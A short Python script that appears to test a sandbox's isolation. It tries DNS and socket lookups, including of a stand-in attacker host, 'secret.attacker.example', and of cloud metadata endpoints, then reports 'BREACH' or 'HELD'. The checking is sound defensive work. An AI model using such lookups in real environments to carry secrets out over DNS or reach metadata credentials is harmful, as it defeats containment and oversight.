"""Names and services looked up: a question to a name server can carry a secret out."""
from platform_sdk import send_output

hits = []
try:
    import socket
except ImportError:
    socket = None
for name in ("example.com", "secret.attacker.example", "localhost", "ip6-localhost", "127.0.0.1", "metadata.google.internal", "169.254.169.254", "\0", "x" * 300, "\u2024"):
    for call in ("gethostbyname", "gethostbyname_ex", "gethostbyaddr", "getfqdn"):
        try:
            got = getattr(socket, call)(name)
            if call != "getfqdn" and name not in ("127.0.0.1", "169.254.169.254"):
                hits.append((call, name, got))
        except BaseException:
            pass
    try:
        hits += [("getaddrinfo", name)] if socket.getaddrinfo(name, 53) and not name[:1].isdigit() else []
    except BaseException:
        pass
for call, argument in (("getservbyname", "http"), ("getservbyport", 80), ("getprotobyname", "tcp"), ("if_nameindex", None), ("sethostname", "mine")):
    try:
        hits.append((call, getattr(socket, call)(*(() if argument is None else (argument,)))))
    except BaseException:
        pass
send_output("BREACH:" + repr(hits[:5]) if hits else "HELD:no name has an answer")
